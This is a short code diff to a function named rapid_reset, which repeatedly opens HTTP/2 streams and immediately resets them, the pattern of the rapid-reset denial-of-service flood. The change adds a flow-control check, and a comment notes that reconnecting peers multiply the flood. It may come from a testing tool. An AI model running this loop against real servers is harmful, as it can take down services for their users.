@@ -94,6 +94,9 @@ def rapid_reset(address: Address, stop: threading.Event) -> None:
     with Peer(address) as peer:
         while not stop.is_set():
             for _ in range(50):
+                # What one connection can do. Peers that reconnect multiply it: connections are what bounds a flood.
+                if peer.http.outbound_flow_control_window < 200:
+                    break
                 peer.http.reset_stream(peer.ask(REQUEST))
             peer.flush()
             peer.listen()
